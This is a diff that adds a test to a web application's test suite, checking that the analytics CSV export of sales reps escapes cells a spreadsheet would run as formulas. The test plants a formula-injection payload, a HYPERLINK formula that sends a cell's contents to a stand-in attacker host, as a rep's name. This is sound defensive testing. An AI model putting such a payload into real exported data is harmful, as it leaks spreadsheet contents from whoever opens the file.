@@ -139,3 +139,16 @@ def test_reps_cannot_see_analytics(app, client, session):
     _login(app, client, "rep9@x.pl", "rep-password", "rep", session)
     assert client.get("/analytics").status_code == 403
 
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(app, client, session, dataset) -> None:  # noqa: ANN001
+    from core.models import User
+
+    rep = session.get(User, dataset["rep1"])
+    rep.name = '=HYPERLINK("http://evil.example/?"&A1,"Rep One")'
+    session.add(rep)
+    session.commit()
+    _login(app, client, "boss@x.pl", "boss-password", "manager", session)
+    reps = list(csv.reader(io.StringIO(client.get("/analytics/reps.csv").data.decode())))
+    assert """'=HYPERLINK("http://evil.example/?"&A1,"Rep One")""" in {r[0] for r in reps[1:]}
+    assert all(not cell.startswith(("=", "+", "@")) for row in reps for cell in row)
